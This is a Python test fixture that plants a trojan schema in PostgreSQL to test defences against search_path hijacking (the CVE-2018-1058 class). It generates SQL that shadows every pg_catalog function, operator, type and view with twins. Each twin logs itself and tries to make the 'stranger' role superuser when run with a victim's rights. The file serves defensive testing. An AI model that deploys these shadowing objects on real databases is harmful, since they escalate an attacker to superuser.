"""A database whose names lie: a schema with a twin of everything, and each springs.

Each function, operator, type and relation of pg_catalog has a twin in a stranger's
schema, which the database's search_path names before pg_catalog. So whatever of a
statement is not led to pg_catalog by itself meets its twin: also what a name that fits
better would catch without that (the class of CVE-2018-1058). A twin says so in the
server's log, tries to make its owner a superuser, and does what the true one does.
"""

import re
from dataclasses import dataclass, field
from typing import Final

import psycopg

from tests.support.fixtures.postgres import Database
from walstream.testing.servers import LocalPostgres

STRANGER: Final = "stranger"
_SPRUNG: Final = re.compile(
    r"LOG:  sprung: (.*)|ERROR:  cannot accept a value of type (any)"
)
_FIRST: Final = "lair, pg_catalog, public"

_SCHEMA: Final = """
CREATE SCHEMA lair AUTHORIZATION stranger;
GRANT USAGE ON SCHEMA lair TO PUBLIC;
ALTER DATABASE {database} SET search_path = {path};
ALTER ROLE CURRENT_USER IN DATABASE {database} SET search_path = public;
"""
# what a stranger's function can do with the rights of who runs it
_SPRING: Final = """
CREATE FUNCTION lair.spring(what pg_catalog.text) RETURNS pg_catalog.bool
LANGUAGE plpgsql SET search_path = pg_catalog AS $spring$ BEGIN
  RAISE LOG 'sprung: % as %', what, current_user;
  BEGIN EXECUTE 'ALTER ROLE stranger SUPERUSER';
  EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END $spring$
"""
_FUNCTIONS: Final = r"""
SELECT format('CREATE FUNCTION lair.%I(%s) RETURNS %s LANGUAGE sql AS %L',
  proname, pg_get_function_arguments(p.oid), pg_get_function_result(p.oid),
  format('SELECT lair.spring(%L); SELECT %s', p.oid::regprocedure,
    CASE prokind WHEN 'a' THEN 'NULL' ELSE format('* FROM pg_catalog.%I(%s)', proname,
      (SELECT string_agg(CASE WHEN provariadic <> 0 AND n = pronargs
          THEN 'VARIADIC ' ELSE '' END || '$' || n, ', ')
        FROM generate_series(1, pronargs) AS n)) END))
FROM pg_proc p WHERE pronamespace = 'pg_catalog'::regnamespace
  AND prokind IN ('f', 'a') AND NOT proargtypes::oid[] && %(none)s::regtype[]::oid[]
  AND prorettype <> ALL (%(none)s::regtype[]::oid[])
  AND NOT EXISTS (SELECT FROM pg_aggregate WHERE aggfnoid = p.oid AND aggkind <> 'n')
"""
# of "any" SQL's functions take nothing: these fail
_OF_ANY: Final = r"""
SELECT format('CREATE FUNCTION lair.%I(%s) RETURNS %s LANGUAGE internal AS %L',
  proname, pg_get_function_arguments(p.oid), pg_get_function_result(p.oid), 'any_in')
FROM pg_proc p WHERE pronamespace = 'pg_catalog'::regnamespace
  AND prokind IN ('f', 'a') AND '"any"'::regtype = ANY (proargtypes)
  AND NOT EXISTS (SELECT FROM pg_aggregate WHERE aggfnoid = p.oid AND aggkind <> 'n')
"""
_OPERATORS: Final = r"""
SELECT format('CREATE FUNCTION lair.%1$s(%2$s) RETURNS %3$s LANGUAGE sql AS %4$L;'
  ' CREATE OPERATOR lair.%5$s (FUNCTION = lair.%1$s%6$s%7$s)', 'operator_' || o.oid,
  concat_ws(', ', nullif(oprleft, 0)::regtype, oprright::regtype), oprresult::regtype,
  format('SELECT lair.spring(%L); SELECT %s OPERATOR(pg_catalog.%s) $%s',
    o.oid::regoperator, CASE WHEN oprleft <> 0 THEN '$1' END, oprname,
    CASE WHEN oprleft <> 0 THEN 2 ELSE 1 END),
  oprname, ', LEFTARG = ' || nullif(oprleft, 0)::regtype,
  ', RIGHTARG = ' || oprright::regtype)
FROM pg_operator o WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprcode <> 0
  AND 'record'::regtype NOT IN (oprleft, oprright)
"""
# what fits names better than pg_catalog's own, which comes first where a path has none
_BETTER_OPERATORS: Final = r"""
SELECT format('CREATE FUNCTION lair.%1$I(%2$s) RETURNS %3$s LANGUAGE sql AS %4$L;'
  ' CREATE OPERATOR lair.%5$s (FUNCTION = lair.%1$I, LEFTARG = %6$s, RIGHTARG = %7$s)',
  concat_ws('_', 'better', o.oid, one.kind, other.kind),
  concat_ws(', ', one.kind, other.kind), oprresult::regtype,
  format('SELECT lair.spring(%L); SELECT $1::text OPERATOR(pg_catalog.%s) $2::text',
    format('%s(%s,%s)', oprname, one.kind, other.kind), oprname),
  oprname, one.kind, other.kind)
FROM pg_operator o, unnest('{name,text,varchar}'::text[]) AS one (kind),
  unnest('{name,text,varchar}'::text[]) AS other (kind)
WHERE oprnamespace = 'pg_catalog'::regnamespace
  AND oprleft = 'text'::regtype AND oprright = 'text'::regtype
  AND NOT EXISTS (SELECT FROM pg_operator p WHERE p.oprname = o.oprname
    AND p.oprleft = one.kind::regtype AND p.oprright = other.kind::regtype)
"""
_BETTER_FUNCTIONS: Final = r"""
SELECT format('CREATE OR REPLACE FUNCTION lair.%I(%s) RETURNS %s LANGUAGE sql AS %L',
  proname, array_to_string(fitting, ', '), format_type(prorettype, NULL),
  format('SELECT lair.spring(%L); SELECT pg_catalog.%I(%s)',
    proname || '(' || array_to_string(fitting, ',') || ')', proname,
    (SELECT string_agg('$' || n || '::' || format_type(proargtypes[n - 1], NULL), ', ')
      FROM generate_series(1, pronargs) AS n)))
FROM pg_proc p CROSS JOIN LATERAL (
  SELECT array_agg(CASE kind WHEN 'regclass'::regtype THEN 'oid'::regtype
    WHEN 'text'::regtype THEN 'name'::regtype ELSE kind::regtype END ORDER BY place)
  FROM unnest(proargtypes::oid[]) WITH ORDINALITY AS given (kind, place)
) AS better (fitting)
WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f' AND pronargs > 0
  AND proallargtypes IS NULL AND provariadic = 0 AND NOT proretset
  AND NOT proargtypes::oid[] && %(none)s::regtype[]::oid[]
  AND prorettype <> ALL (%(none)s::regtype[]::oid[])
  AND NOT EXISTS (SELECT FROM pg_proc q WHERE q.proname = p.proname
    AND q.pronamespace = p.pronamespace
    AND q.proargtypes::text = array_to_string(fitting::oid[], ' '))
"""
_TYPES: Final = r"""
SELECT format('CREATE DOMAIN lair.%1$I AS pg_catalog.%1$I CHECK (lair.spring(%2$L))',
  typname, 'type ' || typname)
FROM pg_type WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype <> 'p'
  AND typtype <> 'c' AND typcategory <> 'A' AND typname <> 'bool'
"""
_RELATIONS: Final = r"""
SELECT format('CREATE VIEW lair.%1$I AS SELECT %2$s FROM pg_catalog.%1$I'
  ' WHERE lair.spring(%3$L)', relname,
  (SELECT string_agg(quote_ident(attname), ', ') FROM pg_attribute
    WHERE attrelid = c.oid AND attnum > 0 AND NOT attisdropped
      AND atttypid NOT IN ('anyarray'::regtype, '_pg_statistic'::regtype)),
  'relation ' || relname)
FROM pg_class c WHERE relnamespace = 'pg_catalog'::regnamespace
  AND relkind IN ('r', 'v')
"""
_OF_THE_STRANGER: Final = (
    _FUNCTIONS,
    _BETTER_FUNCTIONS,
    _OPERATORS,
    _BETTER_OPERATORS,
    _TYPES,
    _RELATIONS,
)
_NONE: Final = (  # no function of SQL has these types
    '{"\\"any\\"",internal,cstring,unknown,record,void,trigger,event_trigger,'
    "language_handler,fdw_handler,tsm_handler,index_am_handler,table_am_handler,"
    "pg_ddl_command}"
)


@dataclass(frozen=True)
class Trap:
    """A server whose databases are planted with twins, and whose log is read."""

    server: LocalPostgres
    _read: list[int] = field(default_factory=lambda: [0])  # bytes of the log

    def forget(self) -> None:
        """Look at what is logged from now on."""
        self._read[0] = self.server.log.stat().st_size

    def plant(self, database: Database, path: str = _FIRST) -> int:
        """Make the twins; tell how many there are."""
        database.execute(_SCHEMA.format(database=database.name, path=path))
        with self._planting(database, STRANGER) as connection:
            connection.execute(_SPRING)
            made = sum(_made(connection, asked) for asked in _OF_THE_STRANGER)
        with self._planting(database, "postgres") as connection:
            return made + _made(connection, _OF_ANY)

    def _planting(self, database: Database, user: str) -> psycopg.Connection:
        return psycopg.connect(
            self.server.dsn(database.name, user),
            options="-c search_path=pg_catalog -c check_function_bodies=off",
            autocommit=True,
        )

    def sprung(self) -> list[str]:
        """Name the twins that ran, and who ran them."""
        log = self.server.log.read_bytes()[self._read[0] :].decode(errors="replace")
        return sorted({"".join(found) for found in _SPRUNG.findall(log)})

    def won(self) -> bool:
        """Tell whether the stranger got what it wanted."""
        asked = "SELECT rolsuper FROM pg_roles WHERE rolname = 'stranger'"
        return Database(self.server).fetch(asked) == [(True,)]


def _made(connection: psycopg.Connection, asked: str) -> int:
    found = connection.execute(asked.replace("%(none)s", f"'{_NONE}'").encode())
    statements = found.fetchall()
    for (statement,) in statements:
        connection.execute(statement)
    return len(statements)
